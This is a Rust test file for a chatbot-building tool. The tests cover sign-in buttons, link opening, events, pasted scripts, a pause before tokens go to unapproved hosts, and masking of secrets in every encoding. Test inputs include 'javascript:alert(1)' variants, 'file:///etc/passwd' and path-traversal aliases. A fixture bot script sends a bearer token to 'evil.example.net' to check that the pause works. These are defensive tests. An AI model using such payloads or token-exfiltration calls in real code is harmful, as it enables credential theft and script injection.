//! What leaves a conversation: sign-ins, links, events, HTTP calls. What comes back of it is masked.

use serde_json::{Value, json};

use crate::browser::{Decision, sign_in};
use crate::connections::connect;
use crate::{CANARY, Desk};

const GOOGLE: &str = "- provider: google\n  context: user\n  scope: email profile\n";
const SECRET: &str = "- provider: secret\n  alias: myapi_key\n  context: bot\n";

fn start(desk: &Desk, bot: &Value) -> Value {
    desk.call("chat_start", json!({ "bot": bot["bot"] }))
}

fn said(chat: &Value) -> String {
    let items = chat["items"].as_array().unwrap().iter().filter(|item| item["from"] == "bot");
    let text = |part: &Value| {
        part["text"]
            .as_str()
            .or(part["url"].as_str())
            .map_or_else(|| format!("‹{}›", part["alias"].as_str().unwrap()), str::to_owned)
    };
    items
        .map(|item| item["text"].as_array().unwrap().iter().map(text).collect::<String>())
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn a_sign_in_button_starts_the_sign_in_and_the_bot_learns_of_it() {
    let desk = Desk::new();
    let script = "buttons \"Sign in\" do\n  \"Google\" ->\n    open \"#{oauth_link(\"google\")}\"\nend\n\ndialog event: \"token:google\" do\n  info = get_token_info(event.payload)\n  say \"Thank you, #{info.first_name}\"\nend\n";
    let bot = desk.bot_with_vault(GOOGLE, script);
    let chat = start(&desk, &bot);
    let item = chat["items"].as_array().unwrap().iter().find(|item| item["buttons"] != json!([])).unwrap();
    let button = &item["buttons"][0];
    assert_eq!(
        (&button["kind"], &button["alias"], &button["pressed"]),
        (&json!("signIn"), &json!("google"), &json!(false))
    );
    let press = json!({ "chat": chat["chat"], "item": item["id"], "button": 0 });
    let pressed = desk.call("chat_press", press);
    assert!(pressed["items"].to_string().contains("\"pressed\":true"), "{pressed}");
    let opened = desk.browser.opened();
    assert_eq!(opened.len(), 1, "{opened:?}");
    let view = desk.call("bot_get", json!({ "bot": bot["bot"] }));
    let attempt = desk.call("connect_get", json!({ "attempt": view["integrations"][0]["attempt"] }));
    assert_eq!((&attempt["state"], &attempt["persona"]), (&json!("waiting"), &chat["persona"]));
    sign_in(&opened[0], Decision::Allow);
    let thanked =
        desk.until("chat_get", &json!({ "chat": chat["chat"] }), |chat| said(chat).contains("Thank you, Ada"));
    let event = &thanked["events"][0];
    assert_eq!((&event["name"], &event["source"]), (&json!("token:google"), &json!("sign-in")));
    assert!(event["handledBy"]["line"].is_u64(), "{event}");
    let nothing = json!({ "chat": chat["chat"], "item": 999, "button": 7 });
    desk.call("chat_press", nothing);
    assert_eq!(desk.browser.opened().len(), 1, "a button that is not there does nothing");
}

#[test]
fn a_declined_sign_in_is_noted_in_the_conversation() {
    let desk = Desk::new();
    let bot = desk.bot_with_vault(GOOGLE, "say oauth_link(\"google\")\n");
    let chat = start(&desk, &bot);
    let link = chat["items"].to_string();
    assert!(link.contains("patchbay://login/google"), "{link}");
    desk.call("chat_open_link", json!({ "chat": chat["chat"], "url": "patchbay://login/google" }));
    sign_in(&desk.browser.opened()[0], Decision::Deny);
    desk.until("chat_get", &json!({ "chat": chat["chat"] }), |chat| chat.to_string().contains("access was declined"));
}

#[test]
fn only_addresses_for_a_browser_are_opened() {
    let desk = Desk::new();
    let bot = desk.bot_with_vault(GOOGLE, "say \"hi\"\n");
    let chat = start(&desk, &bot);
    let open = |url: &str| json!({ "chat": chat["chat"], "url": url });
    for url in [
        "",
        "javascript:alert(1)",
        " javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "file:///etc/passwd",
        "data:text/html,x",
        "vbscript:x",
        "ssh://example.org",
        "smb://example.org/share",
        "patchbay://auth/oauth2/callback?code=c&state=s",
        "patchbay://LOGIN/google",
        "patchbay:login/google",
        "about:blank",
        "example.org",
        "//example.org",
    ] {
        let failure = desk.fail("chat_open_link", open(url));
        assert_eq!(failure["code"], "invalid", "{url:?}: {failure}");
    }
    for alias in ["", "nobody", "google/../x", "google?x=1", "../google"] {
        let failure = desk.fail("chat_open_link", open(&format!("patchbay://login/{alias}")));
        assert_eq!(failure["code"], "notFound", "{alias:?}: {failure}");
    }
    assert!(desk.browser.opened().is_empty());
    for url in ["https://example.org/a?b=c", "http://example.org/", "mailto:ann@example.org", "tel:+31201234567"] {
        desk.call("chat_open_link", open(url));
    }
    assert_eq!(desk.browser.opened().len(), 4);
    desk.browser.refuse(true);
    let failure = desk.fail("chat_open_link", open("https://example.org/"));
    assert_eq!(
        (&failure["code"], &failure["hint"]),
        (&json!("unavailable"), &json!("Copy the address and open it yourself."))
    );
}

#[test]
fn events_carry_json() {
    let desk = Desk::new();
    let script = "dialog event: \"order\" do\n  say \"Order #{event.payload.id}\"\nend\n";
    let bot = desk.open(&desk.write("events", &[("integrations.yaml", "[]\n"), ("main.bubble", script)]));
    let chat = start(&desk, &bot);
    let event = |name: &str, payload: &str| json!({ "chat": chat["chat"], "name": name, "payload": payload });
    let told = desk.call("chat_event", event(" order ", "{\"id\": 7}"));
    assert_eq!(said(&told), "Order 7");
    assert_eq!((&told["events"][0]["name"], &told["events"][0]["source"]), (&json!("order"), &json!("you")));
    for bad in ["{", "{'id': 7}", "id: 7", "{}}", "nan"] {
        assert_eq!(desk.fail("chat_event", event("order", bad))["code"], "invalid", "{bad}");
    }
    assert_eq!(desk.fail("chat_event", event("  ", ""))["code"], "invalid");
    let nobody = desk.call("chat_event", event("other", ""));
    assert_eq!(nobody["events"].as_array().unwrap().len(), 2);
    assert_eq!(nobody["events"][1]["handledBy"], Value::Null);
    assert!(nobody["log"].to_string().contains("Nothing in this bot reacts"), "{nobody}");
}

#[test]
fn time_can_be_skipped() {
    let desk = Desk::new();
    let script = "x = ask \"Still there?\", timeout: 60\nsay \"done\"\n";
    let bot = desk.open(&desk.write("time", &[("integrations.yaml", "[]\n"), ("main.bubble", script)]));
    let chat = start(&desk, &bot);
    assert_eq!(chat["aheadSeconds"], 0);
    let jumped = desk.call("chat_jump", json!({ "chat": chat["chat"], "seconds": 30 }));
    assert_eq!((&jumped["aheadSeconds"], &jumped["status"]), (&json!(30), &json!("waiting")));
    let jumped = desk.call("chat_jump", json!({ "chat": chat["chat"], "seconds": 31 }));
    assert_eq!(jumped["aheadSeconds"], 61);
    assert!(said(&jumped).contains("done"), "{jumped}");
    assert_eq!(desk.fail("chat_jump", json!({ "chat": chat["chat"], "seconds": -1 }))["code"], "invalid");
}

#[test]
fn a_pasted_script_runs_in_place_of_the_bots_own() {
    let desk = Desk::new();
    let bot = desk.secret_bot_with_value();
    let pasted = "dialog main do\r\nsay \"pasted \" + get_access_token(bot.tokens.myapi_key)\r\nend\r\n";
    let chat = desk.call("chat_start", json!({ "bot": bot["bot"], "script": pasted }));
    assert_eq!((chat["pasted"].clone(), said(&chat)), (json!(true), "pasted ‹myapi_key›".to_owned()));
    assert_eq!(said(&desk.call("chat_restart", json!({ "chat": chat["chat"] }))), "pasted ‹myapi_key›");
    let wrong = desk.fail("chat_start", json!({ "bot": bot["bot"], "script": "dialog main do\n  say \"" }));
    assert!(wrong["message"].as_str().unwrap().starts_with("pasted.bubble:"), "{wrong}");
}

/// A token that is about to go to a host that nobody approved.
fn paused() -> (Desk, Value, Value) {
    let desk = Desk::new();
    let manifest = format!("{SECRET}- provider: google\n  context: bot\n  scope: email profile\n");
    let script = "dialog main do\n  t = get_access_token(bot.tokens.google)\n  http_get \"https://evil.example.net/\", headers: [Authorization: \"Bearer \" + t]\n  say \"after\"\nend\n";
    let bot = desk.bot_with_vault(&manifest, script);
    connect(&desk, &bot, "google");
    let chat = start(&desk, &bot);
    assert_eq!(chat["status"], "paused", "{chat}");
    let pause = &chat["pause"];
    assert_eq!((&pause["alias"], &pause["host"]), (&json!("google"), &json!("evil.example.net")));
    assert_eq!(pause["place"]["line"], 3);
    assert_eq!(said(&chat), "");
    (desk, bot, chat)
}

#[test]
fn a_token_waits_before_it_goes_somewhere_new() {
    let (desk, bot, chat) = paused();
    assert_eq!(desk.call("chat_get", json!({ "chat": chat["chat"] }))["status"], "paused", "looking allows nothing");
    let refused = desk.call("chat_answer_pause", json!({ "chat": chat["chat"], "allow": false }));
    assert_eq!((&refused["status"], &refused["pause"]), (&json!("stopped"), &Value::Null));
    assert!(refused["items"].to_string().contains("was not allowed to go to evil.example.net"), "{refused}");
    assert!(!said(&refused).contains("after"));
    let exchanges = refused["exchanges"].as_array().unwrap();
    assert!(exchanges.iter().all(|own| own["status"] == Value::Null), "nothing was sent: {refused}");
    assert!(exchanges[0]["error"].as_str().unwrap().contains("nothing was sent"), "{refused}");
    let hosts = desk.call("bot_get", json!({ "bot": bot["bot"] }))["integrations"][1]["connection"]["hosts"].clone();
    assert!(!hosts.to_string().contains("evil"), "{hosts}");
    let again = desk.call("chat_restart", json!({ "chat": chat["chat"] }));
    assert_eq!(again["status"], "paused", "it is asked once more");
}

#[test]
fn an_allowed_host_is_not_asked_again() {
    let (desk, bot, chat) = paused();
    let allowed = desk.call("chat_answer_pause", json!({ "chat": chat["chat"], "allow": true }));
    assert_eq!((said(&allowed), &allowed["pause"]), ("after".to_owned(), &Value::Null), "{allowed}");
    let hosts = || desk.call("bot_get", json!({ "bot": bot["bot"] }))["integrations"][1]["connection"]["hosts"].clone();
    assert!(hosts().as_array().unwrap().contains(&json!({ "host": "evil.example.net", "approved": true })));
    assert_eq!(said(&desk.call("chat_restart", json!({ "chat": chat["chat"] }))), "after");
    desk.call("approval_remove", json!({ "bot": bot["bot"], "alias": "google", "host": "evil.example.net" }));
    assert!(!hosts().to_string().contains("evil"));
    assert_eq!(desk.call("chat_restart", json!({ "chat": chat["chat"] }))["status"], "paused");
}

#[test]
fn a_private_address_waits_too() {
    let desk = Desk::new();
    let script = "dialog main do\n  r = http_get \"http://127.0.0.1:9/\"\n  say \"after\"\nend\n";
    let bot = desk.open(&desk.write("private", &[("integrations.yaml", "[]\n"), ("main.bubble", script)]));
    let chat = start(&desk, &bot);
    assert_eq!((&chat["status"], &chat["pause"]["alias"]), (&json!("paused"), &Value::Null), "{chat}");
    assert!(chat["pause"]["host"].as_str().unwrap().starts_with("127.0.0.1"));
    let allowed = desk.call("chat_answer_pause", json!({ "chat": chat["chat"], "allow": true }));
    assert_eq!(said(&allowed), "after", "{allowed}");
}

#[test]
fn exchanges_are_masked_in_every_spelling() {
    let desk = Desk::new();
    // Characters that every encoding writes another way.
    let value = format!("{CANARY}/+ü\"&");
    let manifest = format!("{SECRET}- provider: google\n  context: bot\n  scope: email profile\n");
    let script = "dialog main do\n  s = get_access_token(bot.tokens.myapi_key)\n  g = get_access_token(bot.tokens.google)\n  http_post \"https://www.googleapis.com/echo/\" + url_encode(s) + \"?q=\" + url_encode(s), form: [a: s]\n  say http.error\n  http_post \"https://www.googleapis.com/echo/\" + g + \"?q=\" + url_encode(g), json: [a: g], headers: [\"X-Key\": g]\n  say http.status_code\nend\n";
    let bot = desk.bot_with_vault(&manifest, script);
    desk.call("secret_set", json!({ "bot": bot["bot"], "alias": "myapi_key", "value": value }));
    connect(&desk, &bot, "google");
    desk.studio.approve_host(bot["bot"].as_str().unwrap(), "myapi_key", "www.googleapis.com").unwrap();
    let chat = start(&desk, &bot);
    let [kept, played] = chat["exchanges"].as_array().unwrap().as_slice() else { panic!("{chat}") };
    assert_eq!(
        (&kept["practice"], &kept["status"]),
        (&json!(false), &Value::Null),
        "a real secret never goes to practice"
    );
    assert!(said(&chat).starts_with(kept["error"].as_str().unwrap()), "{chat}");
    assert_eq!(
        (&played["practice"], &played["what"], &played["method"]),
        (&json!(true), &json!("http_post"), &json!("POST"))
    );
    assert!(played["status"].is_u64() && !played["responseBody"].as_str().unwrap().is_empty(), "{played}");
    assert_eq!((&kept["place"]["line"], &played["place"]["line"]), (&json!(4), &json!(6)));
    for (exchange, alias) in [(kept, "myapi_key"), (played, "google")] {
        let mask = format!("‹secret:{alias}›");
        let in_full = |field: &str| exchange[field].as_str().unwrap().contains(&mask);
        assert!(in_full("url") && in_full("requestBody"), "{exchange}");
        assert_eq!(exchange["aliases"], json!([alias]));
    }
    let google = crate::connections::token(&desk, &bot, "google");
    let shown = [chat.to_string(), desk.call("bot_get", json!({ "bot": bot["bot"] })).to_string()];
    for secret in [value.as_str(), google.as_str()] {
        for spelling in spellings(secret) {
            assert!(shown.iter().all(|text| !text.contains(&spelling)), "{spelling} in {}", shown[0]);
        }
    }
}

/// A value as it stands, as JSON, in a URL, as a form, in hexadecimal and in base64 at each alignment.
fn spellings(secret: &str) -> Vec<String> {
    let json = serde_json::to_string(secret).unwrap();
    let form: String = url::form_urlencoded::byte_serialize(secret.as_bytes()).collect();
    let hex: String = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
    let mut all = vec![secret.to_owned(), json.trim_matches('"').to_owned(), form.replace('+', "%20"), form, hex];
    for before in 0..3 {
        let padded = [vec![b'x'; before], secret.as_bytes().to_vec()].concat();
        let text = base64(&padded);
        // The ends depend on what stands beside the value.
        all.push(text[4..text.len() - 4].to_owned());
    }
    all.push(CANARY.to_owned());
    all
}

fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let group = |three: &[u8]| {
        let number = (0..3).fold(0_u32, |number, at| number << 8 | u32::from(three.get(at).copied().unwrap_or(0)));
        (0..4).map(move |at| char::from(LETTERS[(number >> (18 - 6 * at) & 63) as usize]))
    };
    bytes.chunks(3).flat_map(group).collect()
}

#[test]
fn a_conversation_is_shown_while_it_waits_for_a_server() {
    let desk = Desk::new();
    let manifest = "- provider: google\n  context: bot\n  scope: email profile\n";
    let script = "dialog main do\n  x = ask \"Go?\"\n  t = get_access_token(bot.tokens.google)\n  http_get \"https://www.googleapis.com/oauth2/v3/userinfo\", headers: [Authorization: \"Bearer \" + t]\n  say http.body.name\nend\n";
    let bot = desk.bot_with_vault(manifest, script);
    connect(&desk, &bot, "google");
    let chat = start(&desk, &bot);
    desk.call("practice_fault", json!({ "name": "slow=3000", "on": true }));
    let studio = desk.studio.clone();
    let id = chat["chat"].as_str().unwrap().to_owned();
    let going = std::thread::spawn(move || studio.send_text(&id, "go").unwrap());
    let get = json!({ "chat": chat["chat"] });
    let working = desk.until("chat_get", &get, |chat| chat["status"] == "working");
    assert!(said(&working).ends_with("Go?"), "{working}");
    let text = json!({ "chat": chat["chat"], "text": "meanwhile" });
    desk.call("chat_send", text);
    going.join().unwrap();
    let done = desk.until("chat_get", &get, |chat| chat["status"] == "idle");
    assert_eq!(done["items"].to_string().matches("Ada Winter").count(), 1, "{done}");
}

#[test]
fn a_full_token_is_shown_masked_and_ended_by_the_script() {
    let desk = Desk::new();
    let manifest = "- provider: google\n  context: bot\n  scope: email profile\n";
    let script = "dialog main do\n  full = get_full_token(bot.tokens.google)\n  log full\n  say full.credentials.token\n  x = ask \"End?\"\n  say delete_token(bot.tokens.google)\n  say get_token_info(bot.tokens.google) == nil\nend\n";
    let bot = desk.bot_with_vault(manifest, script);
    connect(&desk, &bot, "google");
    let token = crate::connections::token(&desk, &bot, "google");
    let chat = start(&desk, &bot);
    assert!(said(&chat).starts_with("‹google›"), "{chat}");
    assert!(
        chat["log"].to_string().contains("\"alias\":\"google\"") && !chat.to_string().contains("practice-"),
        "{chat}"
    );
    let part = chat["items"].as_array().unwrap().iter().find_map(|item| item["text"][0]["part"].as_u64()).unwrap();
    let reveal = json!({ "chat": chat["chat"], "part": part });
    assert_eq!(desk.call("chat_reveal", reveal.clone())["value"], token);
    let ended = desk.call("chat_send", json!({ "chat": chat["chat"], "text": "yes" }));
    assert!(said(&ended).ends_with("true\ntrue"), "{ended}");
    let view = desk.call("bot_get", json!({ "bot": bot["bot"] }));
    assert_eq!(view["integrations"][0]["state"], "notConnected");
    assert_eq!(desk.fail("chat_reveal", reveal)["code"], "notFound");
}

#[test]
fn closed_chats_answer_nothing() {
    let desk = Desk::new();
    for (name, request) in [
        ("chat_press", json!({ "chat": "none", "item": 1, "button": 0 })),
        ("chat_open_link", json!({ "chat": "none", "url": "https://example.org/" })),
        ("chat_event", json!({ "chat": "none", "name": "e", "payload": "" })),
        ("chat_answer_pause", json!({ "chat": "none", "allow": true })),
        ("chat_jump", json!({ "chat": "none", "seconds": 1 })),
    ] {
        assert_eq!(desk.fail(name, request)["code"], "notFound", "{name}");
    }
    assert!(desk.browser.opened().is_empty());
}
